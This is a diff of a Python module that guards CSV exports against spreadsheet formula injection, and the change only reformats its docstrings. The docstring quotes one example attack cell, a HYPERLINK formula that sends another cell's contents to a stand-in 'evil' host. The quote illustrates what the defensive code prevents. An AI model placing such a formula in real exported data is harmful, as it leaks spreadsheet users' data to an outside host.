@@ -1,5 +1,6 @@
-"""The guard against formulas in tables that people open in a spreadsheet: the one place that knows
-what begins a formula.
+"""The guard against formulas in tables that people open in a spreadsheet.
+
+The one place that knows what begins a formula.
 
 A cell ``=HYPERLINK("http://evil/?"&A1)`` of a downloaded CSV runs in the reader's spreadsheet
 (OWASP, «CSV Injection»; CWE-1236). Our cells hold what anybody may have written into an archived
@@ -12,8 +13,7 @@ import unicodedata
 from collections.abc import Iterable
 
 FORMULA_STARTS = frozenset("=+-@＝＋－＠")
-"""What begins a formula; Excel with a Japanese keyboard takes the full-width forms for the others.
-"""
+"""What begins a formula; Japanese Excel takes the full-width forms for the others."""
 _OWN_CELL = frozenset("\t\r\n")
 """These may end a cell in a careless import, so that what follows them begins one of its own."""
 _NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")
@@ -37,15 +37,17 @@ def begins_formula(text: str) -> bool:
 
 
 def defused(text: str) -> str:
-    """A text that no spreadsheet takes for a formula: an apostrophe goes before it where it might
-    be one.
+    """A text that no spreadsheet takes for a formula.
+
+    An apostrophe goes before it where it might be one.
     """
     return f"'{text}" if begins_formula(text) else text
 
 
 def csv_cells(values: Iterable[object]) -> list[str]:
-    """The cells of a line of CSV: None is an empty cell, a number stays a number (``-1`` too), a
-    text is defused.
+    """The cells of a line of CSV.
+
+    None is an empty cell, a number stays a number (``-1`` too), a text is defused.
     """
     return [_cell(value) for value in values]
 
